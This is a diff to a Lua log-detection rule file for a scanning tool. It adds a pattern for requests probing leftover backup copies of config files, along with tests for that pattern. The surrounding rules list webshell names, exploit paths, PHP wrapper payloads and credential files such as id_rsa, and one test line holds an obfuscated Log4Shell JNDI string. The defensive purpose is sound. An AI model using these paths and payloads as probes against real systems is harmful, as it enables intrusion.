@@ -19,7 +19,7 @@ return rule {
     -- Exploits and back doors that have a path of their own.
     [[(?i)\b(?:GET|POST|PUT|HEAD) \S{0,200}/(?:w00tw00t|muieblackcat|gponform/|_ignition/|dana-na/|global-protect/|remote/fgt_lang|cgi-bin/luci|wls-wsat/|nacos/|druid/index|telescope/requests|debug/default/view|eval-stdin\.php|shell\?|(?:shell|webshell|cmd|c99|r57|wso\d?|b374k)\.(?:php|jspx?|aspx?)\b|id_rsa\b|id_dsa\b|phpinfo\.php|info\.php|adminer(?:-[\d.]+)?\.php|setup\.php|mysqladmin|pma/|sqladmin|cgi-bin/php|invoker/jmxinvoker|jmx-console|autodiscover/autodiscover\.json\?@|ecp/\w+\.js|owa/auth/x\.js|dev/cmdb/|mgmt/tm/util/bash|tmui/|vsanHealth|ui/vropspluginui|\.vscode/|sftp-config\.json|wp-json/wp/v2/users|wp-content/plugins/\S{1,80}/readme\.txt)]],
     [[(?i)\b(?:GET|POST|PUT|HEAD) \S{0,400}(?:invokefunction|call_user_func_array|class\.module\.classLoader|java\.lang\.Runtime|getRuntime\(|%24%7b|allow_url_include|auto_prepend_file|(?:=php|=data|=expect|=phar)(?::|%3a)(?:/|%2f){2}|(?:=https?|=ftp)(?::|%3a)(?:/|%2f){2}\S{1,200}\?\s)]],
-    [[(?i)\b(?:GET|HEAD) \S{0,200}/[\w.-]{0,40}(?:backup|dump|database|db|site|www|\.htaccess|web\.config|config)[\w-]{0,20}(?:\.sql|\.zip|\.rar|\.7z|\.tar|\.tgz|\.bak|\.old|\.swp)\b]],
+    [[(?i)\b(?:GET|HEAD) \S{0,200}/[\w.-]{0,40}(?:backup|dump|database|db|site|www|\.htaccess|web\.config|config)[\w-]{0,20}(?:\.sql|\.zip|\.rar|\.7z|\.tar|\.tgz|\.bak|\.old|\.swp)\b|\b(?:GET|HEAD) \S{0,200}/[\w-]{1,60}\.(?:json|ya?ml|xml|php|env|ini|conf|js|py|jsp|aspx?|sql)(?:\.(?:bak|old|orig|save|swp)\b|~ )]],
     [[\(\) ?\{ ?:? ?;? ?\} ?;|\berror importing function definition for\b]],                       -- Shellshock
     [[\] "(?:\\x16\\x03|\\x03\\x00|\\x05\\x01|SSH-2\.0|EHLO |\S{0,40}mstshash=|(?:CONNECT \S+|GET https?://\S+) HTTP/[\d.]+" [45]\d\d)| NONE/40[05] \d+ [A-Z]+ ]],
     [[\bNOTEXIST - \[(?P<ip>[0-9A-Fa-f.:]+)\]|\bURI too long \(longer than \d+\)]],
@@ -86,5 +86,11 @@ return rule {
       [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /redirect?url=https://shop.example/cart HTTP/1.1" 302 91 "-" "-"]],
     }, expect = 0 },
     { "a lookup taken apart", log = [[2024-11-26 10:15:01 INFO agent ${${::-j}ndi:ldap://203.0.113.9/a}]], expect = { { severity = "high" } } },
+    { "left over: found", log = {
+      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /config.json.bak HTTP/1.1" 404 91 "-" "-"]],
+    }, expect = 1 },
+    { "left over: harmless", log = {
+      [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /config.json HTTP/1.1" 404 91 "-" "-"]],
+    }, expect = 0 },
   },
 }
